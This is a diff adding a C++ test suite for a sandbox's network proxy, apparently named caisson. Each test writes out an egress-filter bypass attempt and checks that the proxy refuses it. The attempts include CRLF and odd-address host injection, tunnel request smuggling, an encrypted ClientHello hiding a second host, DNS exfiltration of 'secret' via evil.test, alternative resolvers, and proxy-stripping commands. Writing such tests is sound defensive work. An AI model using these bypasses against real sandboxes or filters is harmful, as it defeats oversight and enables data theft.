@@ -1,0 +1,220 @@
+// Ways around a filter by host name that were seen elsewhere, one test each; refuse_test.cc has the rest of them. Each
+// also shows that the same thing works where it may, so that a refusal for the wrong reason fails.
+#include <signal.h>
+
+#include <sstream>
+
+#include "network/network.h"
+
+namespace caisson::test {
+namespace {
+
+using Bypass = NetworkTest;
+
+constexpr const char* kDirect =
+    "env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY ";
+
+constexpr const char* kAsk = R"(
+import socket, struct
+def ask(data, host="127.0.0.1", port=3128, first=b""):
+    s = socket.create_connection((host, port)); s.settimeout(5)
+    if first: s.sendall(first); s.recv(2)
+    out = b""
+    try:
+        s.sendall(data)
+        while True:
+            piece = s.recv(4096)
+            if not piece: break
+            out += piece
+            if out[:2] == b"\5\0": break
+    except OSError: pass
+    return out
+)";
+
+TEST_F(Bypass, LineEndsAndOddAddressesInHostNames) {
+  const RunOutput output = python({"example.org", "_x.example.org"}, std::string(kAsk) + R"(
+for target in (b"evil.test\r\n.example.org", b"evil.test\n", b"example.org\r\nHost: evil.test", b"[::]", b"0135.0270.0.03",
+               b"93.184.3", b"0x5d.0xb8.0.3", b"[2002:5db8:0003::1]", b"[64:ff9b::5db8:3]", b"[::ffff:5db8:3]",
+               b"[fe80::1%25lo]", b"evil_.test", b"_x.evil.test", b"evil.test\x1b[2K", b"e\xcc\x81vil.test", b"example.org..",
+               b".example.org", b"example.org:80:80", b"example.org%2eevil.test"):
+    for data, first in ((b"CONNECT " + target + b":80 HTTP/1.1\r\n\r\n", b""),
+                        (b"GET http://" + target + b"/ HTTP/1.1\r\nHost: " + target + b"\r\n\r\n", b""),
+                        (b"\5\1\0\3" + bytes([len(target)]) + target + b"\0\x50", b"\5\1\0")):
+        out = ask(data, first=first)
+        if b"200" in out[:20] or out[:2] == b"\5\0" or b" from 80" in out: print("REACHED", target, out)
+print(ask(b"\5\1\0\3\x0bEXAMPLE.org\0\x50", first=b"\5\1\0")[:2], b" 200 " in ask(b"CONNECT example.org.:80 HTTP/1.1\r\n\r\nx")[:20]))");
+  EXPECT_EQ(output.out, "b'\\x05\\x00' True\n") << output.describe();
+}
+
+TEST_F(Bypass, WordsThatAreNoBooleansOpenNothing) {
+  for (const char* line :
+       {"allow_missing_server_name = \"false\"", "allow_missing_server_name = 1", "allow_encrypted_hello = \"no\"",
+        "allowed_hosts = \"*\"", "allowed_hosts = true", "mode = \"open\""}) {
+    const std::string policy = files.write(
+        "odd.toml", "extends = \"bash\"\n[network]\n" +
+                        std::string(std::string_view(line).starts_with("mode") ? "" : "mode = \"proxy\"\n") + line +
+                        "\n");
+    EXPECT_EQ(runCaisson({"run", "--policy", policy, "--", "true"}).exit_status, 125) << line;
+  }
+}
+
+TEST_F(Bypass, ATunnelCarriesOnlyWhatItWasOpenedFor) {
+  const RunOutput output = python({"example.org"}, std::string(kAsk) + R"(
+def through(request):
+    s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
+    s.sendall(b"CONNECT example.org:80 HTTP/1.1\r\n\r\n")
+    while b"\r\n\r\n" not in s.recv(4096): pass
+    out = b""
+    try:
+        s.sendall(request)
+        while piece := s.recv(4096): out += piece
+    except OSError: pass
+    return out
+fine = b"GET /fine HTTP/1.1\r\nHost: example.org\r\n\r\n"
+print(b"/fine from 80" in through(fine.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")))
+for request in (b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n", fine + b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+                b"GET http://evil.test/x HTTP/1.1\r\nHost: example.org\r\n\r\n", b"CONNECT evil.test:80 HTTP/1.1\r\n\r\n"):
+    print(b"/x from 80" in through(request)))");
+  EXPECT_EQ(output.out, "True\nFalse\nFalse\nFalse\nFalse\n") << output.describe();
+}
+
+TEST_F(Bypass, AnEncryptedHello) {
+  // A hello that names a permitted host on the outside and hides another one inside.
+  const std::string script = std::string(kAsk) + R"(
+def vector(size, data): return len(data).to_bytes(size, "big") + data
+def extension(kind, data): return struct.pack(">H", kind) + vector(2, data)
+name = b"example.org"
+body = b"\3\3" + bytes(32) + vector(1, b"") + vector(2, b"\x13\x01") + vector(1, b"\0")
+extensions = extension(0, vector(2, b"\0" + vector(2, name)))
+for hidden in (b"", extension(0xfe0d, bytes(40)), extension(0xffce, bytes(40))):
+    hello = b"\1" + vector(3, body + vector(2, extensions + hidden))
+    out = ask(b"\x16\3\1" + vector(2, hello), "example.org", 443)
+    print(out[5:7] != b"\2\x31")   # the server's own alert, or ours: access denied
+)";
+  EXPECT_EQ(python({"example.org"}, script).out, "True\nFalse\nFalse\n");
+  EXPECT_EQ(python({"example.org"}, script, "allow_encrypted_hello = true").out, "True\nTrue\nTrue\n");
+}
+
+TEST_F(Bypass, Http2WithoutTlsIsNotNegotiated) {
+  const RunOutput output = python({"example.org"}, std::string(kAsk) + R"(
+out = ask(b"GET /fields HTTP/1.1\r\nHost: example.org\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\n"
+          b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", "example.org", 80).lower()
+print(b"200 ok" in out, b"h2c" in out, b"http2-settings" in out)
+print(b"400 bad request" in ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "example.org", 80).lower()))");
+  EXPECT_EQ(output.out, "True False False\nTrue\n") << output.describe();
+}
+
+TEST_F(Bypass, OtherResolversOverTlsAndHttps) {
+  const RunOutput output = run({"example.org"}, {"bash", "-c", std::string(kDirect) + R"(/usr/bin/python3 -c '
+import socket, time
+start = time.monotonic()
+for address, port in (("8.8.8.8", 853), ("1.1.1.1", 443), ("2001:4860:4860::8888", 853), ("2606:4700:4700::1111", 443)):
+    try:
+        s = socket.create_connection((address, port), 5); s.settimeout(5)
+        print("data" if s.recv(1) else "nothing")
+    except OSError as error: print(type(error).__name__)
+print(time.monotonic() - start < 5)
+')"},
+                               "", {"--json"});
+  const auto result = output.json();
+  ASSERT_TRUE(result.is_object()) << output.describe();
+  EXPECT_FALSE(contains(result["stdout"], "data")) << result;
+  EXPECT_TRUE(contains(result["stdout"], "True")) << result;
+  for (const char* target :
+       {"8.8.8.8:853", "1.1.1.1:443", "[2001:4860:4860::8888]:853", "[2606:4700:4700::1111]:443"}) {
+    EXPECT_TRUE(denied(result, target, "connect")) << target << result;
+  }
+}
+
+TEST_F(Bypass, DnsToAnyAddressIsThePolicysAnswer) {
+  forgetQueries();
+  const RunOutput output = python({"example.org"}, R"(
+import socket, struct
+def ask(name, server):
+    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+    s.sendto(q, (server, 53)); return s.recv(512)[3] & 15
+for server in ("8.8.8.8", "93.184.0.2", "169.254.169.254", "2001:4860:4860::8888"):
+    print(ask(b"\x06secret\4evil\4test\0", server), ask(b"\7example\3org\0", server)))");
+  EXPECT_EQ(output.out, "3 0\n3 0\n3 0\n3 0\n") << output.describe();
+  EXPECT_FALSE(contains(queries(), "evil")) << queries();
+}
+
+TEST_F(Bypass, RawAddressesOfEitherFamily) {
+  const std::string script = std::string(kDirect) +
+                             "curl -sS -m 5 http://93.184.0.3/; curl -sS -m 5 -g 'http://[2606:4700:aa::2]/'; "
+                             "curl -sS -m 5 --socks5 127.0.0.1:3128 http://93.184.0.3/";
+  EXPECT_FALSE(contains(shell({"example.org"}, script).out, "from 80"));
+  const RunOutput fine = shell({"93.184.0.3", "2606:4700:aa::2"}, script);
+  EXPECT_EQ(fine.out, "93.184.0.3 / from 80\n[2606:4700:aa::2] / from 80\n93.184.0.3 / from 80\n") << fine.describe();
+}
+
+TEST_F(Bypass, ASandboxHasItsOwnEgressAndNoOther) {
+  // While a sandbox that may reach example.org runs, neither the host nor a sandbox that may not finds its listeners.
+  const std::string wide = policyFor({"example.org"}, "");
+  RunOptions how;
+  how.cwd = files.path();
+  const BackgroundProgram first({caissonBinary(), "run", "--policy", wide, "--workspace", ":none", "--", "sleep", "60"},
+                                how);
+  sleepFor(std::chrono::milliseconds(500));
+  for (const char* port : {"3128", "53"}) {
+    const std::string probe = std::string("exec 3<>/dev/tcp/127.0.0.1/") + port;
+    EXPECT_NE(runProgram({"bash", "-c", probe}).exit_status, 0) << port;
+  }
+  const std::string narrow =
+      files.write("narrow.toml", "extends = \"bash\"\n[network]\nmode = \"proxy\"\ndns_servers = [\"93.184.0.2\"]\n");
+  const RunOutput second = runCaisson({"run", "--policy", narrow, "--workspace", ":none", "--", "bash", "-c",
+                                       "curl -sS -x http://127.0.0.1:3128 http://example.org/"},
+                                      how);
+  EXPECT_FALSE(contains(second.out, "from 80")) << second.describe();
+  EXPECT_TRUE(contains(second.out, "--allow-host example.org")) << second.describe();
+}
+
+TEST_F(Bypass, SecretsOfARequestAreOnNoRecord) {
+  RunOptions how;
+  how.cwd = files.path();
+  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
+  const std::string script =
+      "curl -sS -H 'Authorization: Bearer canary-one' -H 'Cookie: canary-two' -u user:canary-three "
+      "'http://example.org/canary-four?token=canary-five'; curl -sS 'http://u:canary-six@evil.test/canary-seven'";
+  const RunOutput output = runCaisson({"run", "--policy", policyFor({"example.org"}, ""), "--workspace", ":none", "--",
+                                       "bash", "-c", "eval \"$(cat)\""},
+                                      {.stdin_data = script, .env = how.env, .unset = {}, .cwd = how.cwd});
+  EXPECT_TRUE(contains(output.out, "/canary-four?token=canary-five from 80")) << output.describe();
+  EXPECT_FALSE(contains(output.err, "canary")) << output.describe();
+  const RunOutput log = runCaisson({"audit", "show", "--json"}, how);
+  EXPECT_TRUE(contains(log.out, "evil.test")) << log.describe();
+  EXPECT_FALSE(contains(log.out, "canary")) << log.describe();
+}
+
+TEST_F(Bypass, NoRequestHidesBehindAThousandOthers) {
+  RunOptions how;
+  how.cwd = files.path();
+  how.env["CAISSON_HOME"] = files.makeDir("home", 0700);
+  forgetQueries();
+  BackgroundProgram program(
+      {caissonBinary(), "run", "--policy", policyFor({"example.org:5432"}, "max_connections = 600"), "--workspace",
+       ":none", "--", "/usr/bin/python3", "-c", R"(
+import socket, sys, time
+every = [socket.create_connection(("example.org", 5432)) for i in range(600)]
+fine = all(s.recv(8) == b"welcome\n" for s in every)
+for s in every: s.close()
+time.sleep(1)
+sys.exit(0 if fine else 1))"},
+      how);
+  // All of them are made while the supervisor has no time to listen.
+  ASSERT_TRUE(eventually([] { return contains(queries(), "example.org"); }));
+  program.signal(SIGSTOP);
+  sleepFor(std::chrono::seconds(4));
+  program.signal(SIGCONT);
+  EXPECT_EQ(program.wait(std::chrono::seconds(30)), 0);
+  std::istringstream log(runCaisson({"audit", "show", "--json"}, how).out);
+  int recorded = 0;
+  for (std::string line; std::getline(log, line);) {
+    if (contains(line, "93.184.0.2") && contains(line, "sent_bytes")) ++recorded;
+  }
+  EXPECT_EQ(recorded, 600);
+}
+
+}  // namespace
+}  // namespace caisson::test
